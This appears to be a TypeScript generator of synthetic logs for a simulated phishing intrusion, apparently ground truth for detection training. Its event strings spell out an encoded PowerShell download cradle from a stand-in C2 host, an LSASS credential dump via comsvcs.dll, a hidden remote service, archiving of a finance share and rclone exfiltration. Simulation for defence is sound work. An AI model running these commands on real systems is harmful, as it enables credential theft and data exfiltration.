/** Staged: mail attachment -> macro -> encoded PowerShell -> LSASS dump -> remote service on the file server -> exfiltration. */
import type { Instant } from "@cordon/model/time";
import {
  connected,
  FILES,
  fileCreated,
  later,
  loggedOn,
  makeGuid,
  makeProcess,
  NETBIOS,
  type Pen,
  type Person,
  type Process,
  processCreated,
  resolved,
  serviceInstalled,
  sysmon,
} from "./estate.ts";
import type { Truth } from "./story.ts";

const SYSTEM32 = "C:\\Windows\\System32\\";
const ADMIN = "svc-backup";

interface Plan {
  readonly victim: Person;
  readonly c2: { readonly ip: string; readonly port: number; readonly name: string };
  readonly drop: { readonly ip: string; readonly port: number; readonly name: string };
}

/** UTF-16LE base64, as `powershell -EncodedCommand` takes it. The command only names a documentation address. */
export function encoded(text: string): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  const bytes = [...text].flatMap((letter) => [letter.charCodeAt(0) & 255, letter.charCodeAt(0) >> 8]);
  let out = "";
  for (let at = 0; at < bytes.length; at += 3) {
    const [a = 0, b, c] = bytes.slice(at, at + 3);
    out += alphabet[a >> 2];
    out += alphabet[((a & 3) << 4) | ((b ?? 0) >> 4)];
    out += b === undefined ? "=" : alphabet[((b & 15) << 2) | ((c ?? 0) >> 6)];
    out += c === undefined ? "=" : alphabet[c & 63];
  }
  return out;
}

export function stagePhishing(pen: Pen, start: Instant, victim: Person): Truth {
  const plan: Plan = {
    victim,
    c2: { ip: `203.0.113.${pen.chance.between(20, 90)}`, port: 443, name: `cdn-${pen.chance.hex(5)}.example.net` },
    drop: { ip: `198.51.100.${pen.chance.between(20, 90)}`, port: 443, name: "files.share-drop.example" },
  };
  const { implant, at: afterFoothold, word } = foothold(pen, start, plan);
  const afterDump = dump(pen, later(afterFoothold, 40_000), implant);
  const afterMove = moveToServer(pen, later(afterDump, 65_000), plan, implant);
  const end = exfiltrate(pen, later(afterMove, 50_000), plan);
  const host = victim.machine.name;
  return {
    scenario: "phishing",
    summary: `${victim.name} opens a mail attachment on ${host}; LSASS is dumped, ${ADMIN} is used to run a service on ${FILES.name}, data leaves to ${plan.drop.ip}`,
    from: start,
    to: end,
    rootCause: { kind: "process", value: `${host}|${word.guid.toLowerCase()}`, boundary: "mail-attachment" },
    hosts: [host, FILES.name],
    users: [`${NETBIOS}\\${victim.name}`.toLowerCase(), `${NETBIOS}\\${ADMIN}`.toLowerCase()],
    addresses: [plan.c2.ip, plan.drop.ip],
    techniques: [
      "T1566.001",
      "T1204.002",
      "T1059.001",
      "T1003.001",
      "T1021.002",
      "T1543.003",
      "T1560.001",
      "T1567.002",
    ],
  };
}

function foothold(pen: Pen, start: Instant, plan: Plan): { implant: Process; at: Instant; word: Process } {
  const { machine, name } = plan.victim;
  const base = { host: machine, user: `${NETBIOS}\\${name}`, logonId: `0x${pen.chance.hex(6)}` };
  loggedOn(pen, later(start, -60_000), { host: machine, user: name, type: 2, logonId: base.logonId });
  const child = (image: string, commandLine: string, parent?: Process): Process =>
    makeProcess(pen.chance, { ...base, image, commandLine, ...(parent === undefined ? {} : { parent }) });
  const office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\";
  const explorer = child("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
  const outlook = child(`${office}OUTLOOK.EXE`, `"${office}OUTLOOK.EXE"`, explorer);
  processCreated(pen, later(start, -30_000), outlook);
  const attachment = `C:\\Users\\${name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${pen.chance.hex(8).toUpperCase()}\\Invoice_2026-1107.docm`;
  fileCreated(pen, later(start, 0), outlook, attachment);
  const word = child(`${office}WINWORD.EXE`, `"${office}WINWORD.EXE" /n "${attachment}" /o ""`, outlook);
  processCreated(pen, later(start, 4_000), word);
  const script = encoded(`IEX (New-Object Net.WebClient).DownloadString('https://${plan.c2.name}/u')`);
  const shell = child(
    `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`,
    `powershell.exe -NoP -W Hidden -EncodedCommand ${script}`,
    word,
  );
  processCreated(pen, later(start, 9_000), shell);
  resolved(pen, later(start, 9_600), shell, { name: plan.c2.name, ip: plan.c2.ip });
  connected(pen, later(start, 9_800), shell, plan.c2);
  const path = `C:\\Users\\${name}\\AppData\\Local\\Temp\\OneDriveUpd.exe`;
  fileCreated(pen, later(start, 14_000), shell, path);
  const implant = child(path, `"${path}" -q`, shell);
  processCreated(pen, later(start, 16_000), implant);
  for (let beat = 0; beat < 4; beat += 1) connected(pen, later(start, 18_000 + beat * 15_000), implant, plan.c2);
  return { implant, at: later(start, 64_000), word };
}

function dump(pen: Pen, start: Instant, implant: Process): Instant {
  const shell = makeProcess(pen.chance, {
    ...inherit(implant),
    image: `${SYSTEM32}cmd.exe`,
    commandLine: 'cmd.exe /c whoami /all & net group "Domain Admins" /domain',
    parent: implant,
  });
  processCreated(pen, start, shell);
  const file = "C:\\Windows\\Temp\\sys.dmp";
  const tool = makeProcess(pen.chance, {
    ...inherit(implant),
    image: `${SYSTEM32}rundll32.exe`,
    commandLine: `rundll32.exe ${SYSTEM32}comsvcs.dll, MiniDump 712 ${file} full`,
    parent: implant,
  });
  processCreated(pen, later(start, 9_000), tool);
  sysmon(pen, later(start, 9_400), tool, {
    id: 10,
    data: {
      SourceProcessGUID: `{${tool.guid}}`,
      SourceProcessId: tool.pid,
      SourceImage: tool.image,
      TargetProcessGUID: `{${makeGuid(pen.chance)}}`,
      TargetProcessId: 712,
      TargetImage: `${SYSTEM32}lsass.exe`,
      GrantedAccess: "0x1FFFFF",
      CallTrace: `${SYSTEM32}ntdll.dll+9d4c4|${SYSTEM32}comsvcs.dll+2b10`,
      SourceUser: tool.user,
      TargetUser: "NT AUTHORITY\\SYSTEM",
    },
  });
  fileCreated(pen, later(start, 10_000), tool, file);
  return later(start, 12_000);
}

function inherit(process: Process): Pick<Process, "host" | "user" | "logonId"> {
  return { host: process.host, user: process.user, logonId: process.logonId };
}

function moveToServer(pen: Pen, start: Instant, plan: Plan, implant: Process): Instant {
  const { machine } = plan.victim;
  connected(pen, start, implant, { ip: FILES.ip, port: 445, name: FILES.name });
  loggedOn(pen, later(start, 600), {
    host: FILES,
    user: ADMIN,
    type: 3,
    logonId: `0x${pen.chance.hex(6)}`,
    fromIp: machine.ip,
    fromHost: machine.name.toUpperCase(),
  });
  serviceInstalled(pen, later(start, 2_400), FILES, {
    name: "WinUpdSvc",
    path: "%COMSPEC% /C powershell.exe -nop -w hidden -c C:\\Windows\\Temp\\u.ps1",
    account: "LocalSystem",
  });
  const services = makeProcess(pen.chance, {
    host: FILES,
    user: "NT AUTHORITY\\SYSTEM",
    logonId: "0x3e7",
    image: `${SYSTEM32}services.exe`,
    commandLine: `${SYSTEM32}services.exe`,
  });
  const run = makeProcess(pen.chance, {
    ...inherit(services),
    image: `${SYSTEM32}cmd.exe`,
    commandLine: "cmd.exe /C powershell.exe -nop -w hidden -c C:\\Windows\\Temp\\u.ps1",
    parent: services,
  });
  processCreated(pen, later(start, 2_900), run);
  const shell = makeProcess(pen.chance, {
    ...inherit(services),
    image: `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`,
    commandLine: "powershell.exe -nop -w hidden -c C:\\Windows\\Temp\\u.ps1",
    parent: run,
  });
  processCreated(pen, later(start, 3_300), shell);
  connected(pen, later(start, 4_000), shell, plan.c2);
  collect(pen, later(start, 22_000), shell);
  return later(start, 40_000);
}

const ARCHIVE = "D:\\Shares\\Finance\\~q4.7z";

function collect(pen: Pen, at: Instant, shell: Process): void {
  const line = `"C:\\Windows\\Temp\\7z.exe" a -mhe=on -pS3cret! ${ARCHIVE} D:\\Shares\\Finance\\*`;
  const archiver = makeProcess(pen.chance, {
    ...inherit(shell),
    image: "C:\\Windows\\Temp\\7z.exe",
    commandLine: line,
    parent: shell,
  });
  processCreated(pen, at, archiver);
  fileCreated(pen, later(at, 5_000), archiver, ARCHIVE);
}

function exfiltrate(pen: Pen, start: Instant, plan: Plan): Instant {
  const base = { host: FILES, user: "NT AUTHORITY\\SYSTEM", logonId: "0x3e7" };
  const line = `C:\\Windows\\Temp\\rclone.exe copy ${ARCHIVE} remote:q4 --config C:\\Windows\\Temp\\r.conf --transfers 8`;
  const tool = makeProcess(pen.chance, { ...base, image: "C:\\Windows\\Temp\\rclone.exe", commandLine: line });
  processCreated(pen, start, tool);
  resolved(pen, later(start, 500), tool, { name: plan.drop.name, ip: plan.drop.ip });
  for (let part = 0; part < 5; part += 1) connected(pen, later(start, 800 + part * 4_000), tool, plan.drop);
  return later(start, 24_000);
}
